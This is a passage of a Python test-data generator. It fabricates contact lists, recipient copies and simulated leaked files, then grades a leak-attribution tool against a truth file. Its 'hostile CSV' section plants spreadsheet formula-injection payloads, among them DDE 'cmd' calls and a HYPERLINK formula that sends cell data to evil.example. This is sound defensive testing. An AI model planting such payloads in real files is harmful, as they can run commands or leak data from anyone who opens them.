    w = csv.writer(buf, delimiter=style["delimiter"], lineterminator=style["lineterminator"],
                   quoting=csv.QUOTE_ALL if style["quoting"] == "all" else csv.QUOTE_MINIMAL)
    w.writerow(style["header"])
    w.writerows([r[i] for i in idx] for r in rows)
    text = buf.getvalue()
    if style.get("nfd"):
        text = unicodedata.normalize("NFD", text)
    enc = style["encoding"]
    if enc == "utf-16le-bom":
        return b"\xff\xfe" + text.encode("utf-16-le")
    if enc == "utf-8-bom":
        return b"\xef\xbb\xbf" + text.encode("utf-8")
    return text.encode(enc)


def latin1_ok(row):
    try:
        "".join(row).encode("latin-1")
        return True
    except UnicodeEncodeError:
        return False


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def write_ids(path, ids):
    with open(path, "w") as f:
        f.write("".join("%s\n" % i for i in sorted(ids, key=int)))


def mysql_quote(v):
    if v == "":
        return "NULL"
    out = v.replace("\\", "\\\\").replace("'", "\\'").replace('"', '\\"').replace("\n", "\\n")
    out = out.replace("\r", "\\r").replace("\0", "\\0").replace("\x1a", "\\Z")
    return "'" + out + "'"


# ---------------------------------------------------------------- generation

def copy_styles(rng, ncopies, special):
    """Per-copy export style. special: copy number -> constraint tag."""
    styles = {}
    for n in range(1, ncopies + 1):
        tag = special.get(n, "")
        fields = list(FIELDS)
        var = []
        if rng.random() < 0.2 or tag == "renamed-src":
            fields.remove("contact_id")
            var.append("no contact_id")
        if rng.random() < 0.2 and tag not in ("renamed-src",):
            fields.remove("title")
            var.append("no title")
        if rng.random() < 0.15 and tag not in ("reformat-src", "renamed-src"):
            fields.remove("country")
            var.append("no country")
        if rng.random() < 0.5:
            rng.shuffle(fields)
            var.append("columns reordered")
        st = std_style(fields)
        d = rng.random()
        if d < 0.2:
            st["delimiter"] = ";"
        elif d < 0.25:
            st["delimiter"] = "|"
        if rng.random() < 0.4:
            st["lineterminator"] = "\r\n"
        if rng.random() < 0.2:
            st["quoting"] = "all"
        st["order"] = rng.choice(["contact_id", "contact_id", "last_name", "company", "random"])
        st["pool"] = "shared"
        if tag == "utf16":
            st["encoding"], st["delimiter"] = "utf-16le-bom", "\t"
            var.append("UTF-16LE with BOM, tab-separated")
        elif tag == "latin1":
            st["encoding"], st["delimiter"] = "latin-1", ";"
            st["pool"] = "latin1"
            var.append("Latin-1 (rows limited to Latin-1 characters), ';'")
        elif tag == "alt-headers":
            st["header"] = [ALT_HEADERS[f] for f in fields]
            var.append("headers: " + ", ".join(st["header"]))
        elif tag == "title-headers":
            st["header"] = [TITLE_HEADERS[f] for f in fields]
            var.append("headers: " + ", ".join(st["header"]))
        elif tag == "utf8-bom":
            st["encoding"] = "utf-8-bom"
            var.append("UTF-8 with BOM")
        elif tag == "nfd":
            st["nfd"] = True
            var.append("Unicode NFD (decomposed accents and Hangul)")
        if tag != "latin1" and st["delimiter"] != ",":
            var.append("delimiter %r" % st["delimiter"])
        if st["lineterminator"] == "\r\n":
            var.append("CRLF")
        if st["quoting"] == "all":
            var.append("every cell quoted")
        st["variations"] = var
        styles[n] = st
    return styles


def generate(out, seed, nrows, ncopies):
    t0 = time.time()
    rng = random.Random(seed)
    world = World(rng)
    os.makedirs(out, exist_ok=True)
    ncomp = max(20, nrows // 30)
    master, e164, comps = world.contacts(nrows, ncomp, 1000001)
    for r, e in zip(master, e164):
        if r[PHONE] and normalise_phone(r[PHONE], r[COUNTRY]) != e:
            raise SystemExit("gen_contacts: phone self-check failed: %r %s -> %s" % (
                r[PHONE], r[COUNTRY], normalise_phone(r[PHONE], r[COUNTRY])))
    by_id = {r[CID]: r for r in master}
    e164_by_id = {r[CID]: e for r, e in zip(master, e164)}
    used_domains = sorted({r[EMAIL].split("@")[1].lower() for r in master} - set(FREEMAIL_ALL))
    write(os.path.join(out, "master.csv"), render(master, std_style()))

    # other companies' contacts: fresh companies, domains, e-mails, phones
    other, _, _ = world.contacts(5000, max(10, 5000 // 30), 7000001)
    write(os.path.join(out, "other.csv"), render(other, std_style()))
    other_domains = {r[EMAIL].split("@")[1].lower() for r in other} - set(FREEMAIL_ALL)
    assert not other_domains & set(used_domains)

    # copies
    ids = [r[CID] for r in master]
    unshared = set(rng.sample(ids, max(1, round(nrows * 0.05))))
    shared = [i for i in ids if i not in unshared]
    latin1 = [i for i in shared if latin1_ok(by_id[i])]
    write_ids(os.path.join(out, "unshared.ids"), unshared)

    def src(n):
        return (n - 1) % ncopies + 1
    s_single, s_merge_a, s_merge_b = src(7), src(3), src(11)
    if s_merge_b == s_merge_a:
        s_merge_b = s_merge_a % ncopies + 1
    s_renamed, s_jsonl, s_sql, s_hostile = src(12), src(5), src(9), src(2)
    special = {}
    for n, tag in ((4, "utf16"), (6, "latin1"), (8, "alt-headers"), (14, "utf8-bom"),
                   (16, "nfd"), (17, "title-headers")):
        if n <= ncopies:
            special[n] = tag
    special[s_single] = "reformat-src"
    special[s_renamed] = "renamed-src"
    # export styles depend on the seed only, not on --rows
    styles = copy_styles(random.Random("styles-%d" % seed), ncopies, special)

    copies, members = {}, {}
    mask = {}  # contact_id -> bitmask of copies holding it
    truth_copies = {}
    for n in range(1, ncopies + 1):
        st = styles[n]
        pool = latin1 if st["pool"] == "latin1" else shared
        k = min(len(pool), int(nrows * rng.uniform(0.40, 0.70)))
        sel = rng.sample(pool, k)
        rows = [by_id[i] for i in sel]
        if st["order"] == "contact_id":
            rows.sort(key=lambda r: int(r[CID]))
        elif st["order"] in ("last_name", "company"):
            j = FIELDS.index(st["order"])
            rows.sort(key=lambda r: (r[j], int(r[CID])))
        name = "copy-%02d" % n
        fname = name + ".csv"
        write(os.path.join(out, fname), render(rows, st))
        write_ids(os.path.join(out, name + ".ids"), sel)
        copies[n] = sel
        members[n] = set(sel)
        for i in sel:
            mask[i] = mask.get(i, 0) | (1 << n)
        truth_copies[name] = {
            "file": fname, "rows": k, "ids_file": name + ".ids",
            "fields": st["fields"], "header": st["header"], "delimiter": st["delimiter"],
            "encoding": st["encoding"], "lineterminator": st["lineterminator"],
            "quoting": st["quoting"], "order": st["order"], "variations": st["variations"]}
    sets = [frozenset(copies[n]) for n in copies]
    assert len(set(sets)) == len(sets), "two copies hold the same rows"

    leaks = {}

    def record(name, fname, verdict, sources, leak_ids, nrec, fmt, notes=""):
        distinct = sorted(set(leak_ids), key=int)
        write_ids(os.path.join(out, name + ".ids"), distinct)
        matches = {"master": sum(1 for i in distinct if i in by_id)}
        for n in range(1, ncopies + 1):
            matches["copy-%02d" % n] = sum(1 for i in distinct if i in members[n])
        leaks[name] = {"file": fname, "verdict": verdict, "sources": sources, "rows": nrec,
                       "distinct": len(distinct), "ids_file": name + ".ids", "format": fmt,
                       "matches": matches}
        if notes:
            leaks[name]["notes"] = notes
        # sanity: the expected verdict is the only sound reading of the membership
        full = [c for c, m in matches.items() if c != "master" and m == len(distinct)]
        if verdict == "copy" and full != sources:
            raise SystemExit("gen_contacts: %s: copies holding every row: %s" % (name, full))
        if verdict == "merged":
            cover = []
            for a in range(1, ncopies + 1):
                for b in range(a + 1, ncopies + 1):
                    bits = (1 << a) | (1 << b)
                    if all(mask.get(i, 0) & bits for i in distinct):
                        cover.append(["copy-%02d" % a, "copy-%02d" % b])
            if full or cover != [sorted(sources)]:
                raise SystemExit("gen_contacts: %s: pairs covering: %s" % (name, cover))
        if verdict == "ours_unattributed" and any(m for c, m in matches.items() if c != "master"):
            raise SystemExit("gen_contacts: %s: rows found in a copy" % name)
        if verdict == "not_ours" and matches["master"]:
            raise SystemExit("gen_contacts: %s: rows found in master" % name)

    sname = "copy-%02d" % s_single
    st7 = dict(styles[s_single])
    for size in (50, 200, 1000, 10000):
        k = min(size, len(copies[s_single]))
        sel = rng.sample(copies[s_single], k)
        name = "leak-%d" % size
        write(os.path.join(out, name + ".csv"), render([by_id[i] for i in sel], st7))
        record(name, name + ".csv", "copy", [sname], sel, k, "csv")

    # phones re-written
    k = min(1000, len(copies[s_single]))
    sel = rng.sample(copies[s_single], k)
    rows = []
    for i in sel:
        r = list(by_id[i])
        if r[PHONE]:
            r[PHONE] = reformat_phone(rng, e164_by_id[i], r[COUNTRY])
            assert normalise_phone(r[PHONE], r[COUNTRY]) == e164_by_id[i]
        rows.append(r)
    write(os.path.join(out, "leak-reformat.csv"), render(rows, st7))
    record("leak-reformat", "leak-reformat.csv", "copy", [sname], sel, k, "csv",
           "phones rewritten as E.164, national digits, 00-international or +CC-dashed")

    # merge of two copies
    a, b = s_merge_a, s_merge_b
    ka = min(2000, len(copies[a]))
    sel_a = rng.sample(copies[a], ka)
    taken = set(sel_a)
    rest_b = [i for i in copies[b] if i not in taken]
    kb = min(2000, len(rest_b))
    sel_b = rng.sample(rest_b, kb)
    sel = sel_a + sel_b
    dups = rng.sample(sel, len(sel) // 20)
    allrows = sel + dups
    rng.shuffle(allrows)
    mfields = [f for f in ["email", "first_name", "last_name", "company", "phone", "title", "country"]
               if f in styles[a]["fields"] and f in styles[b]["fields"]]
    write(os.path.join(out, "leak-merge.csv"), render([by_id[i] for i in allrows], std_style(mfields)))
    record("leak-merge", "leak-merge.csv", "merged", ["copy-%02d" % a, "copy-%02d" % b], allrows,
           len(allrows), "csv", "%d rows of copy-%02d + %d of copy-%02d, %d duplicated" % (
               ka, a, kb, b, len(dups)))

    # master rows that no copy holds
    k = min(1000, len(unshared))
    sel = rng.sample(sorted(unshared, key=int), k)
    write(os.path.join(out, "leak-master.csv"), render([by_id[i] for i in sel], std_style()))
    record("leak-master", "leak-master.csv", "ours_unattributed", ["master"], sel, k, "csv")

    # other people's contacts
    sel = rng.sample(other, 1000)
    write(os.path.join(out, "leak-other.csv"), render(sel, std_style()))
    leaks_other_ids = [r[CID] for r in sel]
    record("leak-other", "leak-other.csv", "not_ours", [], leaks_other_ids, 1000, "csv")

    # renamed, reordered, title dropped, enriched
    n = s_renamed
    k = min(1000, len(copies[n]))
    sel = rng.sample(copies[n], k)
    ren = {"email": "mail", "phone": "tel", "company": "org", "first_name": "fname",
           "last_name": "lname", "country": "country"}
    rf = [f for f in styles[n]["fields"] if f in ren]
    rng.shuffle(rf)
    header = [ren[f] for f in rf] + ["linkedin_url"]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    for i in sel:
        r = by_id[i]
        fa, la = slug(to_ascii(r[FIRST])), slug(to_ascii(r[LAST]))
        url = "https://www.linkedin.com/in/%s-%s-%s" % (fa or "x", la or "y", digits(rng, 4)) \
            if rng.random() < 0.8 else ""
        w.writerow([r[FIELDS.index(f)] for f in rf] + [url])
    write(os.path.join(out, "leak-renamed.csv"), buf.getvalue().encode())
    record("leak-renamed", "leak-renamed.csv", "copy", ["copy-%02d" % n], sel, k, "csv",
           "header " + ",".join(header))

    # JSON lines
    n = s_jsonl
    k = min(500, len(copies[n]))
    sel = rng.sample(copies[n], k)
    lines = []
    for j, i in enumerate(sel):
        r = by_id[i]
        obj = {"email": r[EMAIL], "name": "%s %s" % (r[FIRST], r[LAST]), "company": r[COMPANY],
               "phone": r[PHONE]}
        lines.append(json.dumps(obj, ensure_ascii=(j % 2 == 1)))
    write(os.path.join(out, "leak-jsonl.jsonl"), ("\n".join(lines) + "\n").encode())
    record("leak-jsonl", "leak-jsonl.jsonl", "copy", ["copy-%02d" % n], sel, k, "jsonl",
           "odd lines escape non-ASCII as \\uXXXX, even lines raw UTF-8")

    # mysqldump
    n = s_sql
    k = min(500, len(copies[n]))
    sel = rng.sample(copies[n], k)
    cols = ["email", "first_name", "last_name", "company", "phone", "title"]
    if "country" in styles[n]["fields"]:
        cols.append("country")
    sql = ["-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)", "--",
           "-- Host: 10.20.0.14    Database: partner_crm",
           "-- ------------------------------------------------------",
           "-- Server version\t8.0.36-0ubuntu0.22.04.1", "",
           "/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;",
           "/*!50503 SET NAMES utf8mb4 */;",
           "/*!40103 SET @OLD_TIME_ZONE=@@TIME_ZONE */;",
           "/*!40103 SET TIME_ZONE='+00:00' */;", "", "--",
           "-- Table structure for table `contacts`", "--", "",
           "DROP TABLE IF EXISTS `contacts`;",
           "/*!40101 SET @saved_cs_client     = @@character_set_client */;",
           "CREATE TABLE `contacts` (",
           "  `id` int unsigned NOT NULL AUTO_INCREMENT,"]
    sql += ["  `%s` varchar(255) DEFAULT NULL," % c for c in cols]
    sql += ["  `created_at` datetime NOT NULL DEFAULT CURRENT_TIMESTAMP,",
            "  PRIMARY KEY (`id`),", "  KEY `idx_email` (`email`)",
            ") ENGINE=InnoDB AUTO_INCREMENT=%d DEFAULT CHARSET=utf8mb4 "
            "COLLATE=utf8mb4_0900_ai_ci;" % (k + 1),
            "/*!40101 SET character_set_client = @saved_cs_client */;", "", "--",
            "-- Dumping data for table `contacts`", "--", "",
            "LOCK TABLES `contacts` WRITE;",
            "/*!40000 ALTER TABLE `contacts` DISABLE KEYS */;"]
    collist = ",".join("`%s`" % c for c in ["id"] + cols + ["created_at"])
    for s in range(0, k, 200):
        vals = []
        for j, i in enumerate(sel[s:s + 200]):
            r = by_id[i]
            ts = "2023-%02d-%02d %02d:%02d:%02d" % (rng.randint(1, 12), rng.randint(1, 28),
                                                    rng.randint(0, 23), rng.randint(0, 59),
                                                    rng.randint(0, 59))
            vals.append("(%d,%s,'%s')" % (s + j + 1, ",".join(mysql_quote(r[FIELDS.index(c)])
                                                             for c in cols), ts))
        sql.append("INSERT INTO `contacts` (%s) VALUES %s;" % (collist, ",".join(vals)))
    sql += ["/*!40000 ALTER TABLE `contacts` ENABLE KEYS */;", "UNLOCK TABLES;",
            "/*!40103 SET TIME_ZONE=@OLD_TIME_ZONE */;", "",
            "-- Dump completed on 2024-02-11 03:14:07", ""]
    write(os.path.join(out, "leak-sql.sql"), "\n".join(sql).encode())
    record("leak-sql", "leak-sql.sql", "copy", ["copy-%02d" % n], sel, k, "sql",
           "id and created_at are the dump's own; NULL for empty phone/title")

    # hostile CSV
    n = s_hostile
    k = min(300, len(copies[n]))
    sel = rng.sample(copies[n], k)
    hf = [f for f in ["email", "first_name", "last_name", "company", "phone", "title", "country"]
          if f in styles[n]["fields"]]
    formulas = ["=cmd|' /C calc'!A0", "+SUM(1)", "@foo", "-2+3",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=1+1", "\t=2+5",
                "@SUM(1+9)*cmd|' /C calc'!A0"]
    recs = []
    for j, i in enumerate(sel):
        r = by_id[i]
        cells = [r[FIELDS.index(f)] for f in hf]
        note = rng.choice(formulas) if rng.random() < 0.4 else rng.choice(["", "met at Synergy",
                                                                           "renewal Q3"])
        cells.append(note)
        x = rng.random()
        if x < 0.04:
            cells = cells[:-2]                     # ragged: short
        elif x < 0.08:
            cells += [rng.choice(formulas) for _ in range(rng.randint(1, 3))]  # ragged: long
        recs.append(cells)
    big = k // 3
    full = [by_id[sel[big]][FIELDS.index(f)] for f in hf]
    recs[big] = full + [("lorem ipsum, dolor sit amet " * 3700)[:102400]]
    if k > 10:
        full = [by_id[sel[big + 5]][FIELDS.index(f)] for f in hf]
        recs[big + 5] = full + ["line one\nline two, with \"quotes\""]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(hf + ["notes"])
    w.writerows(recs[:k // 2])
    head = buf.getvalue().encode()
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerows(recs[k // 2:])
    junk = bytes(b for b in (rng.randrange(256) for _ in range(400)) if b not in b"\n\r\",")
    write(os.path.join(out, "leak-hostile.csv"),
          head + b"\x00\x01" + junk + b"\xff\xfe\xc3\n" + buf.getvalue().encode())
    record("leak-hostile", "leak-hostile.csv", "copy", ["copy-%02d" % n], sel, k, "csv",
           "extra 'notes' column with formula-injection cells; ~4%% short and ~4%% long rows; "
           "a binary junk line (NUL, invalid UTF-8) after row %d; a 100 KiB notes cell in row "
           "%d; a quoted multi-line cell" % (k // 2, big + 1))

    nonascii = sum(1 for r in master if any(ord(c) > 127 for c in r[FIRST] + r[LAST]))
    truth = {
        "generator": "tests/gen/gen_contacts.py", "seed": seed, "rows": nrows, "copies_n": ncopies,
        "columns": FIELDS,
        "master": {"file": "master.csv", "rows": nrows, "companies": ncomp,
                   "nonascii_names": nonascii},
        "unshared": {"ids_file": "unshared.ids", "rows": len(unshared)},
        "other": {"file": "other.csv", "rows": len(other)},
        "canaries": False,
        "our_domains": used_domains,
        "freemail_domains": FREEMAIL_ALL,
        "phone_plan": {c: {"cc": cc, "trunk": tr} for c, (cc, tr) in sorted(PHONE_PLAN.items())},
        "copies": truth_copies,
        "leaks": leaks,
    }
    with open(os.path.join(out, "truth.json"), "w") as f:
        json.dump(truth, f, indent=1, ensure_ascii=False)
        f.write("\n")
    return time.time() - t0


# ---------------------------------------------------------------- check

def check(truth_path, result_path, name):
    problems = []
    try:
        with open(truth_path, encoding="utf-8") as f:
            truth = json.load(f)
    except (OSError, ValueError) as e:
        print("cannot read truth %s: %s" % (truth_path, e))
        return 1
    leaks = truth.get("leaks", {})
    if name not in leaks:
        base = os.path.basename(name)
        cand = [k for k, v in leaks.items() if v["file"] == base or k == base.rsplit(".", 1)[0]]
        if not cand:
            print("no leak named %s in %s" % (name, truth_path))
            return 1
        name = cand[0]
    want = leaks[name]
    try:
        with open(result_path, encoding="utf-8") as f:
            res = json.load(f)
    except (OSError, ValueError) as e:
        print("%s: cannot read result %s: %s" % (name, result_path, e))
        return 1
    if not isinstance(res, dict):
        print("%s: result is not a JSON object" % name)
        return 1
    verdict = res.get("verdict")
    if verdict != want["verdict"]:
        problems.append("verdict %r, expected %r" % (verdict, want["verdict"]))
    ours = res.get("ours")
    want_ours = want["verdict"] != "not_ours"
    if not isinstance(ours, bool):
        problems.append("\"ours\" missing or not a boolean: %r" % (ours,))
    elif ours != want_ours:
        problems.append("ours %s, expected %s" % (str(ours).lower(), str(want_ours).lower()))
    sources = res.get("sources")
    if not isinstance(sources, list) or not all(isinstance(s, dict) for s in sources):
        problems.append("\"sources\" missing or not a list of objects")
        sources = []
    for j, s in enumerate(sources[:2]):
        miss = [k for k in ("recipient", "rows_matched", "containment", "canary_hits",
                            "p_innocent") if k not in s]
        if miss:
            problems.append("sources[%d] lacks %s" % (j, ", ".join(miss)))
    got = [s.get("recipient") for s in sources]
    if want["verdict"] == "copy":
        if not got or got[0] != want["sources"][0]:
            problems.append("first source %r, expected %r" % (got[0] if got else None,
                                                              want["sources"][0]))
    elif want["verdict"] == "merged":
        if len(got) < 2 or set(got[:2]) != set(want["sources"]):
            problems.append("first two sources %s, expected %s" % (got[:2], sorted(want["sources"])))
    if problems:
        for p in problems:
            print("%s: %s" % (name, p))
        return 1
    print("ok")
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", help="output folder")
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--rows", type=int, default=200000)
    ap.add_argument("--copies", type=int, default=20)
    ap.add_argument("--check", nargs=3, metavar=("TRUTH", "RESULT", "LEAK"))
    a = ap.parse_args()
    if a.check:
        return check(*a.check)
    if not a.out:
        ap.error("--out DIR or --check TRUTH RESULT LEAK is required")
    if a.rows < 2000 or a.copies < 2 or a.copies > 99:
        ap.error("--rows must be at least 2000 and --copies within 2..99")
    dt = generate(a.out, a.seed, a.rows, a.copies)
    print("gen_contacts: %d rows, %d copies in %s (%.1f s)" % (a.rows, a.copies, a.out, dt),
          file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
